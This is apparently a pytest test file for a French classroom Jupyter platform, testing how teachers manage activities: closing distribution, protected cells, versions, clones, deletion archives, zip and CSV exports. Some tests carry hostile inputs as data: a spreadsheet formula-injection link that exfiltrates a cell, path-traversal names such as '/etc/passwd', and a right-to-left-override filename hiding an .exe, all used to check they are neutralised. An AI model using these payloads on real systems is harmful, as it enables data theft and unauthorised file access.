"""An activity's life on the teacher's side: options, versions, clone, delete, downloads, Mon espace Jupyter."""
from __future__ import annotations

import csv
import io
import time
import zipfile

import nbformat
import pytest

from capytale.messaging import Bus, Envelope
from services.activities.protection import prepared_copy
from tests.activities.conftest import TEST_TOPOLOGY
from tests.activities.support import DICE, ensure_copy, multipart, stored, upload
from tests.conftest import rabbitmq_reachable

FOLDER = "Dés particuliers ({code})"


def copy_dir(data_root, person, activity):
    return data_root / "users" / person.identity.key / FOLDER.format(code=activity["code"])


def post(person, path, **fields):
    return person.client.post(path, data=fields)


def test_a_closed_activity_refuses_new_students_and_keeps_existing_copies(app, teacher, person, student, activity):
    assert ensure_copy(app, student, activity["code"]).status_code == 200
    assert post(teacher, f"/activities/{activity['id']}/options", is_open="off").status_code == 303
    page = teacher.client.get(f"/activities/{activity['id']}").get_data(as_text=True)
    assert "distribution fermée" in page and "Rouvrir la distribution" in page

    newcomer = person("noé.bernard", "student")
    refused = ensure_copy(app, newcomer, activity["code"])
    assert refused.status_code == 403
    assert refused.json["reason"] == "activity_closed" and "fermée" in refused.json["error"]
    assert ensure_copy(app, student, activity["code"]).status_code == 200  # who has a copy keeps it

    post(teacher, f"/activities/{activity['id']}/options", is_open="on")
    assert ensure_copy(app, newcomer, activity["code"]).status_code == 200


def test_protected_cells_are_read_only_in_new_copies_only(app, teacher, person, student, activity, data_root, corpus):
    ensure_copy(app, student, activity["code"])
    post(teacher, f"/activities/{activity['id']}/options", protect_cells="on")
    newcomer = person("noé.bernard", "student")
    ensure_copy(app, newcomer, activity["code"])

    protected = nbformat.read(copy_dir(data_root, newcomer, activity) / DICE, as_version=4)
    assert protected.cells and all(cell.metadata["editable"] is False and cell.metadata["deletable"] is False
                                   for cell in protected.cells)
    nbformat.validate(protected)
    # the earlier copy and the master are as the teacher sent them
    assert (copy_dir(data_root, student, activity) / DICE).read_bytes() == (corpus / DICE).read_bytes()
    assert (data_root / "masters" / str(activity["id"]) / "1" / DICE).read_bytes() == (corpus / DICE).read_bytes()


def test_the_answer_cells_of_a_graded_notebook_stay_editable_when_cells_are_protected(corpus):
    """nbgrader's solution cells, code and markdown (problem1's LaTeX answer), are where students write."""
    master = (corpus / "problem1.ipynb").read_bytes()
    copy = nbformat.reads(prepared_copy(master, protect=True, instructions=""), as_version=4)
    answers = [c for c in copy.cells if c.metadata.get("nbgrader", {}).get("solution")]
    assert {c.cell_type for c in answers} == {"code", "markdown"}
    assert all("editable" not in c.metadata and "deletable" not in c.metadata for c in answers)
    others = [c for c in copy.cells if c not in answers]
    assert others and all(c.metadata["editable"] is False and c.metadata["deletable"] is False for c in others)
    assert [c.source for c in copy.cells] == [c.source for c in nbformat.reads(master, as_version=4).cells]


def test_a_new_version_reaches_only_new_students(app, teacher, person, student, activity, data_root):
    ensure_copy(app, student, activity["code"])
    version2 = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Version 2")])
    answer = upload(teacher, "tp-v2.ipynb", nbformat.writes(version2).encode(), path=f"/activities/{activity['id']}/versions")
    assert answer.status_code == 303

    newcomer = person("noé.bernard", "student")
    made = ensure_copy(app, newcomer, activity["code"]).json
    assert made["copy"]["notebook"] == "tp-v2.ipynb"
    assert "Version 2" in (copy_dir(data_root, newcomer, activity) / "tp-v2.ipynb").read_text()
    assert ensure_copy(app, student, activity["code"]).json["copy"]["notebook"] == DICE
    versions = {c["student"]["uid"]: c["version"]
                for c in teacher.client.get(f"/activities/api/activities/{activity['id']}/copies").json}
    assert versions == {"léa.moreau": 1, "noé.bernard": 2}
    page = teacher.client.get(f"/activities/{activity['id']}").get_data(as_text=True)
    assert "v1" in page and "v2" in page and "Publier la version 3" in page


def test_a_broken_new_version_is_refused_and_changes_nothing(app, teacher, activity, data_root):
    answer = upload(teacher, "cassé.ipynb", b'{"cells": [', path=f"/activities/{activity['id']}/versions")
    assert answer.status_code == 400
    assert "JSON" in answer.get_data(as_text=True)
    assert sorted(p.name for p in (data_root / "masters" / str(activity["id"])).iterdir()) == ["1"]
    assert teacher.client.get("/activities/api/activities").json[0]["version"] == 1


def test_a_version_folder_left_by_a_killed_store_does_not_block_that_version(app, teacher, activity, data_root):
    # a store killed between the folder's rename into place and its commit leaves masters/<id>/2 without its row
    left = data_root / "masters" / str(activity["id"]) / "2"
    (left / "images").mkdir(parents=True)
    (left / "images" / "moitié.png").write_bytes(b"half")
    version2 = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Version 2")])
    answer = upload(teacher, "tp-v2.ipynb", nbformat.writes(version2).encode(), path=f"/activities/{activity['id']}/versions")
    assert answer.status_code == 303, answer.get_data(as_text=True)[:300]
    assert sorted(p.relative_to(left).as_posix() for p in left.rglob("*")) == ["tp-v2.ipynb"]
    assert teacher.client.get("/activities/api/activities").json[0]["version"] == 2
    assert not [p.name for p in (data_root / "masters").iterdir() if not p.name.isdigit()], "nothing set aside stays"


def test_a_clone_is_a_new_activity_with_the_same_files_and_no_copies(app, teacher, student, activity, data_root):
    ensure_copy(app, student, activity["code"])
    answer = teacher.client.post(f"/activities/{activity['id']}/clone")
    assert answer.status_code == 303
    clone_id = int(answer.headers["Location"].split("/")[2].split("?")[0])
    listed = {a["id"]: a for a in teacher.client.get("/activities/api/activities").json}
    assert listed[clone_id]["title"] == "Dés particuliers (copie)"
    assert listed[clone_id]["code"] != activity["code"] and listed[clone_id]["copies"] == 0
    cloned = data_root / "masters" / str(clone_id) / "1"
    assert sorted(p.relative_to(cloned).as_posix() for p in cloned.rglob("*") if p.is_file()) == \
        sorted([DICE, "données/lancers.csv"])


def test_another_teacher_cannot_act_on_the_activity(app, other_teacher, activity):
    for path in ("options", "clone", "versions", "delete"):
        assert other_teacher.client.post(f"/activities/{activity['id']}/{path}").status_code == 403
    for path in ("copies.zip", "copies.csv", "project", "delete"):
        assert other_teacher.client.get(f"/activities/{activity['id']}/{path}").status_code == 403


def test_deleting_asks_first_then_keeps_every_copy_and_an_archive(app, teacher, student, activity, data_root):
    ensure_copy(app, student, activity["code"])
    (copy_dir(data_root, student, activity) / "mon-travail.py").write_text("print('à moi')\n")
    page = teacher.client.get(f"/activities/{activity['id']}/delete").get_data(as_text=True)
    assert "1 élève a une copie" in page

    wrong = post(teacher, f"/activities/{activity['id']}/delete", confirm="nimporte")
    assert wrong.status_code == 400 and "rien n'a été supprimé" in wrong.get_data(as_text=True)
    assert teacher.client.get(f"/activities/{activity['id']}").status_code == 200

    done = post(teacher, f"/activities/{activity['id']}/delete", confirm=activity["code"].upper())
    assert done.status_code == 303
    assert teacher.client.get(f"/activities/{activity['id']}").status_code == 404
    assert teacher.client.get("/activities/api/activities").json == []
    gone = ensure_copy(app, student, activity["code"])
    assert gone.status_code == 410 and "supprimée" in gone.json["error"]
    assert (copy_dir(data_root, student, activity) / "mon-travail.py").exists()  # the student's work stays

    [archive] = (data_root / "archive").glob(f"{activity['id']}-*.zip")
    names = zipfile.ZipFile(archive).namelist()
    assert "léa.moreau (léa.moreau)/mon-travail.py" in names
    assert f"léa.moreau (léa.moreau)/{DICE}" in names
    assert f"_master v1/{DICE}" in names and "copies.csv" in names


def test_all_copies_download_as_a_zip_with_one_safe_folder_per_student(app, teacher, person, student, activity):
    ensure_copy(app, student, activity["code"])
    odd = person("../../etc/x:y", "student")
    ensure_copy(app, odd, activity["code"])
    with teacher.client.get(f"/activities/{activity['id']}/copies.zip") as answer:  # closing it closes the file
        assert answer.status_code == 200 and answer.mimetype == "application/zip"
        names = zipfile.ZipFile(io.BytesIO(answer.data)).namelist()
    folders = {name.split("/")[0] for name in names}
    assert folders == {"léa.moreau (léa.moreau)", "_.._etc_x_y (.._.._etc_x_y)"}
    assert all(".." not in name.split("/") and not name.startswith("/") for name in names)
    assert f"léa.moreau (léa.moreau)/{DICE}" in names and "léa.moreau (léa.moreau)/données/lancers.csv" in names


def test_the_list_downloads_as_csv_for_a_french_spreadsheet(app, teacher, person, activity):
    ensure_copy(app, person("léa.moreau", "student", ("2nde B",)), activity["code"])
    answer = teacher.client.get(f"/activities/{activity['id']}/copies.csv")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    assert "filename*=UTF-8''D%C3%A9s%20particuliers%20-%20copies.csv" in answer.headers["Content-Disposition"]
    text = answer.data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0][:3] == ["Élève", "Identifiant", "Classe"]
    assert rows[1][:3] == ["léa.moreau", "léa.moreau", "2nde B"] and rows[1][5:] == ["1", "non"]


def test_a_name_that_is_a_formula_stays_text_in_the_csv(app, teacher, person, activity):
    hostile = '=HYPERLINK("http://127.0.0.1/vol?"&A1;"clic")'
    ensure_copy(app, person(hostile, "student", ("+1-1",)), activity["code"])
    text = teacher.client.get(f"/activities/{activity['id']}/copies.csv").data.decode("utf-8")
    [row] = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))[1:]
    assert row[0] == "'" + hostile and row[2] == "'+1-1"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_copies_are_filtered_by_class_and_sorted(app, teacher, person, activity):
    for name, classes in (("alice", ("2nde A",)), ("bruno", ("2nde B",)), ("chloé", ("2nde A",))):
        ensure_copy(app, person(name, "student", classes), activity["code"])
    page = teacher.client.get(f"/activities/{activity['id']}?class=2nde+A&sort=name&order=desc").get_data(as_text=True)
    rows = [line for line in page.splitlines() if "data-uid=" in line]
    assert [row.split('data-uid="')[1].split('"')[0] for row in rows] == ["chloé", "alice"]
    assert '<option value="2nde B" >2nde B</option>' in page.replace("  ", " ") or "2nde B</option>" in page


def test_the_share_panel_has_the_qr_code_and_the_short_code(app, teacher, activity):
    page = teacher.client.get(f"/activities/{activity['id']}").get_data(as_text=True)
    assert '<svg' in page and 'class="qr"' in page
    assert activity["code"].upper() in page and activity["share_url"] in page
    projector = teacher.client.get(f"/activities/{activity['id']}/project").get_data(as_text=True)
    assert 'class="qr"' in projector and activity["code"].upper() in projector


def test_a_notebook_of_mon_espace_becomes_an_activity(app, teacher, data_root):
    space = data_root / "users" / teacher.identity.key
    (space / "cours" / "images").mkdir(parents=True)
    (space / "cours" / "tp.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("import pandas")])))
    (space / "cours" / "mesures.csv").write_text("t;x\n0;1\n")
    (space / "cours" / "images" / "schéma.png").write_bytes(b"\x89PNG")
    (space / ".cachée.ipynb").write_text("{}")
    page = teacher.client.get("/activities/new").get_data(as_text=True)
    assert 'value="cours/tp.ipynb"' in page and "cachée" not in page

    answer = teacher.client.post("/activities/new", data={
        "source": "space", "space_notebook": "cours/tp.ipynb", "with_folder": "on", "title": "TP mesures"})
    assert answer.status_code == 303
    [made] = teacher.client.get("/activities/api/activities").json
    assert made["title"] == "TP mesures" and made["notebook"] == "tp.ipynb"
    master = data_root / "masters" / str(made["id"]) / "1"
    assert sorted(p.relative_to(master).as_posix() for p in master.rglob("*") if p.is_file()) == \
        ["images/schéma.png", "mesures.csv", "tp.ipynb"]


@pytest.mark.parametrize("path", ["../../masters/x.ipynb", "/etc/passwd", "absent.ipynb"])
def test_a_space_notebook_outside_the_space_is_refused(app, teacher, data_root, path):
    answer = teacher.client.post("/activities/new", data={"source": "space", "space_notebook": path})
    assert answer.status_code == 400
    assert '<p class="error" role="alert">' in answer.get_data(as_text=True)
    assert stored(app, data_root) == (0, [])


def test_a_space_file_with_a_bidirectional_control_is_refused(app, teacher, data_root):
    space = data_root / "users" / teacher.identity.key
    (space / "cours").mkdir(parents=True)
    (space / "cours" / "tp.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    (space / "cours" / "mesures.csv").write_text("t;x\n0;1\n")
    (space / "cours" / "photo\u202egnp.exe").write_bytes(b"MZ")
    answer = teacher.client.post("/activities/new", data={
        "source": "space", "space_notebook": "cours/tp.ipynb", "with_folder": "on", "title": "TP"})
    assert answer.status_code == 400
    assert "contrôle d&#39;écriture (U+202E)" in answer.get_data(as_text=True)
    assert stored(app, data_root) == (0, [])


def test_instructions_are_kept_and_shown(app, teacher, corpus):
    answer = teacher.client.post("/activities/new", **multipart(
        {"title": "Avec consigne", "instructions": "Lis tout.\r\nPuis réponds <b>vite</b>."},
        [("notebook", DICE, (corpus / DICE).read_bytes())]))
    assert answer.status_code == 303
    [made] = teacher.client.get("/activities/api/activities").json
    assert made["instructions"] == "Lis tout.\nPuis réponds <b>vite</b>."
    page = teacher.client.get(f"/activities/{made['id']}").get_data(as_text=True)
    assert "Puis réponds &lt;b&gt;vite&lt;/b&gt;." in page


@pytest.mark.skipif(not rabbitmq_reachable(), reason="RabbitMQ does not answer on 127.0.0.1:5672")
def test_students_at_work_are_shown_from_the_nodes_heartbeats(app, teacher, student, activity):
    ensure_copy(app, student, activity["code"])
    teacher.client.get(f"/activities/{activity['id']}")  # the process starts listening
    bus = Bus("amqp://guest:guest@127.0.0.1:5672/%2F", "tests-heartbeat", TEST_TOPOLOGY).start()
    try:
        assert bus.wait_ready(10)
        deadline = time.monotonic() + 10
        while True:
            bus.publish("node.heartbeat", Envelope("node.heartbeat", {
                "node": 1, "servers": 1, "memory_bytes": 0, "at": time.time(), "active": [student.identity.key]}))
            page = teacher.client.get(f"/activities/{activity['id']}").get_data(as_text=True)
            if "au travail" in page:
                break
            assert time.monotonic() < deadline, "the heartbeat never reached the page"
            time.sleep(0.2)
        assert "1 élève travaille en ce moment" in page
        listed = teacher.client.get(f"/activities/api/activities/{activity['id']}/copies").json
        assert listed[0]["working"] is True
    finally:
        bus.close()


def test_the_instructions_open_the_students_notebook(app, teacher, student, corpus, data_root):
    answer = upload(teacher, DICE, (corpus / DICE).read_bytes(), title="Dés particuliers")
    code = answer.json["code"]
    teacher.client.post(f"/activities/{answer.json['id']}/options", data={"instructions": "Réponds en <b>gras</b>.\nPuis enregistre."})
    ensure_copy(app, student, code)
    copy = nbformat.read(data_root / "users" / student.identity.key / FOLDER.format(code=code) / DICE, as_version=4)
    first = copy.cells[0]
    assert first.cell_type == "markdown" and first.metadata["capytale"] == {"instructions": True}
    assert first.metadata["editable"] is False
    assert "Réponds en &lt;b&gt;gras&lt;/b&gt;." in first.source and "Puis enregistre." in first.source
    master = nbformat.read(corpus / DICE, as_version=4)
    assert [c.source for c in copy.cells[1:]] == [c.source for c in master.cells]
    assert "editable" not in copy.cells[1].metadata  # not protected: only the instructions are
